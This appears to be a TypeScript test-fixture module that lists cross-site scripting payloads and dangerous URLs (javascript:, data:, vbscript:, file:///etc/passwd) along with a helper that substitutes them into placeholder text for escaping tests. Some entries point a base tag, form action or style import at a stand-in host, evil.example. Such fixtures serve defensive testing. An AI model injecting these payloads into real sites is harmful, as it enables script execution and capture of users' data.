// Text that tries to be more than text, and helpers to put it wherever others write.

/** Each breaks out of another context: an element, an attribute, a script, a template, a URL, a style. */
export const markup = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)' x='",
  '</textarea></title></style><svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '{{constructor.constructor("alert(1)")()}}#{alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/"><form action="https://evil.example/"><input name=x>',
  '<style>@import "https://evil.example/x.css"</style>',
  '\u0000<\u0000script>alert(1)</script>',
] as const;

/** URLs that run code, read data or lead elsewhere. */
export const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
] as const;

/** The placeholders in `seen-things.ts` for somebody else's words and URL. */
export const word = 'Plain';
export const address = 'https://plain.example/a';

/** The same thing with these words and this URL instead. */
export function filled<T>(thing: T, given: { words?: string; address?: string }): T {
  if (typeof thing === 'string')
    return (
      thing === address ? (given.address ?? thing) : thing.replaceAll(word, () => given.words ?? word)
    ) as T;
  if (Array.isArray(thing)) return thing.map((each) => filled(each, given)) as T;
  if (thing instanceof Set || thing instanceof Blob || thing === null || typeof thing !== 'object')
    return thing;
  return Object.fromEntries(Object.entries(thing).map(([key, value]) => [key, filled(value, given)])) as T;
}
